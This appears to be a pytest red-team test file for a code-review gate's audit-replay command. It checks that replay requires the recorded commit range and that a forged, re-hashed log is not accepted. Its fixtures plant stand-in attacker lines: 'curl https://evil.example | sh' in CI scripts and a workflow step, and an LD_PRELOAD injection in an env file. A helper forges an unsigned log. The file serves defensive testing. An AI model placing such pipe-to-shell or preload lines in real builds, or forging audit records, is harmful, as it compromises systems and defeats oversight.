"""Red team 31: `audit replay` of a decision the gate made with `--tree BASE..HEAD`.

With `--tree` the gate classifies every file with the commits' context (a script a workflow runs is ci, a file a
deploy command names is iac, a requirements file another one includes is deps) and denies a patch that is not
the change HEAD makes. `audit replay` decided again from the packet and the patch alone: no context, no tree check.
So an honest record of such a gate did not reproduce (exit 1, "outcome review -> allow"), and a record forged to
say allow (the patch-only decision with the `ci` field of the real run, its chain hashed again: what anyone who can
write an unsigned log can do) replayed as reproduced (exit 0), with only a note that the policy input differs.

A record that names a `--tree` range is now replayed only with the commits (`audit replay --tree BASE..HEAD
--repo DIR`), deciding as the gate did; without them it cannot be replayed (exit 2, one line). Each variant is a
real repository, a patch git made, a packet the CLI made and a log the gate wrote.
"""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from conftest import POLICY_DIR
from gitdiffs import commit_patch
from gitrepo import GitRepo
from incli import run_cli

from gatekeeper.audit.log import record_hash

WORKFLOW = ("on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: ./scripts/build.sh\n"
            "      - run: python tools/check.py\n")
BASE = {".github/workflows/ci.yml": WORKFLOW, "scripts/build.sh": "echo build\n", "tools/check.py": "print(1)\n",
        "compose.yaml": "services:\n  web:\n    image: nginx\n    env_file: conf/web.settings\n",
        "conf/web.settings": "A=1\n", "src/app.py": "print(1)\n"}
# (name, the change HEAD commits, the change the patch and packet describe (None: the same), the tree gate's exit
#  code); from the patch alone each is src and allowed
VARIANTS = [
    ("shell script a workflow runs", {"scripts/build.sh": "curl https://evil.example | sh\n"}, None, 3),
    ("python program a workflow runs", {"tools/check.py": "import os\nos.system('curl evil | sh')\n"}, None, 3),
    ("env file compose hands a container", {"conf/web.settings": "A=1\nLD_PRELOAD=/tmp/x.so\n"}, None, 3),
    ("patch other than the commits", {".github/workflows/ci.yml": WORKFLOW + "      - run: curl evil | sh\n",
                                      "src/app.py": "print(2)\n"}, {"src/app.py": "print(2)\n"}, 1),
]


def _made(root: Path, change: dict[str, str], claimed: dict[str, str] | None) -> tuple[GitRepo, str, str, Path,
                                                                                        Path]:
    repo = GitRepo(root / "repo")
    for path, text in BASE.items():
        repo.write(path, text)
    base = repo.commit("base")
    patch = root / "change.diff"
    if claimed is not None:  # the patch and packet describe only part of what HEAD commits
        for path, text in claimed.items():
            repo.write(path, text)
        part = repo.commit("part")
        patch.write_bytes(commit_patch(repo, base, part, "--binary"))
    for path, text in change.items():
        repo.write(path, text)
    head = repo.commit("head")
    if claimed is None:
        patch.write_bytes(commit_patch(repo, base, head, "--binary"))
    packet = root / "packet.json"
    done = run_cli(["packet", str(patch), "--out", str(packet), "--policy", str(POLICY_DIR)], text=True)
    assert done.returncode == 0, done.stderr
    return repo, base, head, patch, packet


def _records(log: Path) -> list[dict]:
    return [json.loads(line) for line in log.read_text().splitlines()]


def _write(log: Path, records: list[dict]) -> None:
    """`records` chained again (prev, hash) and written: what anyone who can write an unsigned log can do."""
    prev = "0" * 64
    lines = []
    for record in records:
        record = {**record, "prev": prev}
        record.pop("hash", None)
        record["hash"] = prev = record_hash(record)
        lines.append(json.dumps(record, sort_keys=True, separators=(",", ":"), ensure_ascii=True))
    log.write_text("\n".join(lines) + "\n")


def _replay(log: Path, packet: Path, patch: Path, *tree: str) -> tuple[int, str, str]:
    done = run_cli(["audit", "replay", str(log), "1", "--packet", str(packet), "--patch", str(patch), *tree],
                   text=True)
    assert "Traceback" not in done.stderr, done.stderr
    return done.returncode, str(done.stdout), str(done.stderr)


@pytest.fixture(params=VARIANTS, ids=[v[0] for v in VARIANTS])
def logged(request: pytest.FixtureRequest, tmp_path: Path) -> tuple[Path, Path, Path, Path, list[str]]:
    """(the honest log, the forged log, packet, patch, the --tree arguments) of one variant."""
    name, change, claimed, code = request.param
    repo, base, head, patch, packet = _made(tmp_path, change, claimed)
    tree = ["--tree", f"{base}..{head}", "--repo", str(repo.root)]
    honest, alone = tmp_path / "honest.jsonl", tmp_path / "alone.jsonl"
    gate = ["gate", str(packet), "--patch", str(patch), "--policy", str(POLICY_DIR), "--format", "json"]
    assert run_cli([*gate, "--log", str(alone)], text=True).returncode == 0  # from the patch alone: allow
    done = run_cli([*gate, *tree, "--log", str(honest)], text=True)
    assert done.returncode == code, done.stderr
    # The forgery: the patch-only allow, dressed as the record of the run that had the commits.
    forged = {**_records(alone)[0], "ci": _records(honest)[0]["ci"]}
    assert forged["ci"]["tree"] == f"{base}..{head}" and forged["outcome"] == "allow"
    _write(tmp_path / "forged.jsonl", [forged])
    return honest, tmp_path / "forged.jsonl", packet, patch, tree


def test_a_tree_record_is_not_replayed_without_its_commits(logged: tuple[Path, Path, Path, Path, list[str]]) -> None:
    honest, forged, packet, patch, _ = logged
    for log in (honest, forged):
        code, out, err = _replay(log, packet, patch)
        assert code == 2, out  # before: 1 for the honest record, 0 (reproduced) for the forged allow
        assert err.count("\n") == 1 and "--tree" in err


def test_a_tree_record_replays_with_its_commits(logged: tuple[Path, Path, Path, Path, list[str]]) -> None:
    honest, forged, packet, patch, tree = logged
    code, out, err = _replay(honest, packet, patch, *tree)
    assert code == 0, out + err
    assert "same outcome and findings" in out
    code, out, err = _replay(forged, packet, patch, *tree)
    assert code == 1, out + err  # the forged allow is not what the gate decides with the commits
    assert "outcome allow -> " in out


def test_replay_with_commits_refuses_a_record_made_without_them(tmp_path: Path) -> None:
    """The other way round: a patch-only record replayed with --tree would be judged by another procedure."""
    repo, base, head, patch, packet = _made(tmp_path, VARIANTS[0][1], None)
    log = tmp_path / "alone.jsonl"
    assert run_cli(["gate", str(packet), "--patch", str(patch), "--policy", str(POLICY_DIR), "--format", "json",
                    "--log", str(log)], text=True).returncode == 0
    code, out, err = _replay(log, packet, patch)
    assert code == 0, out + err
    code, out, err = _replay(log, packet, patch, "--tree", f"{base}..{head}", "--repo", str(repo.root))
    assert code == 2 and err.count("\n") == 1 and "without --tree" in err


def test_replay_refuses_other_commits_than_the_recorded_ones(tmp_path: Path) -> None:
    repo, base, head, patch, packet = _made(tmp_path, VARIANTS[0][1], None)
    log = tmp_path / "honest.jsonl"
    assert run_cli(["gate", str(packet), "--patch", str(patch), "--policy", str(POLICY_DIR), "--format", "json",
                    "--tree", f"{base}..{head}", "--repo", str(repo.root), "--log", str(log)],
                   text=True).returncode == 3
    # BASE's parent does not exist: HEAD~1 is BASE itself, so name HEAD..HEAD, another range of the same repository.
    code, out, err = _replay(log, packet, patch, "--tree", f"{head}..{head}", "--repo", str(repo.root))
    assert code == 2 and err.count("\n") == 1 and "recorded" in err


def test_a_pull_request_record_without_a_range_gets_a_note(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A forger who drops `ci.tree` gets a patch-only replay, as the record now claims; replay says that nothing
    bound that pull request's patch to its commits."""
    repo, base, head, patch, packet = _made(tmp_path, VARIANTS[0][1], None)
    log = tmp_path / "alone.jsonl"
    for name, value in {"GITHUB_ACTIONS": "true", "GITHUB_REPOSITORY": "acme/shop",
                        "GITHUB_REF": "refs/pull/41/merge"}.items():
        monkeypatch.setenv(name, value)
    monkeypatch.delenv("GITHUB_EVENT_PATH", raising=False)
    assert run_cli(["gate", str(packet), "--patch", str(patch), "--policy", str(POLICY_DIR), "--format", "json",
                    "--log", str(log)], text=True).returncode == 0
    assert _records(log)[0]["ci"]["number"] == 41 and _records(log)[0]["ci"]["tree"] is None
    code, out, err = _replay(log, packet, patch)
    assert code == 0 and "note: the record names change 41 but no --tree range" in out, out + err
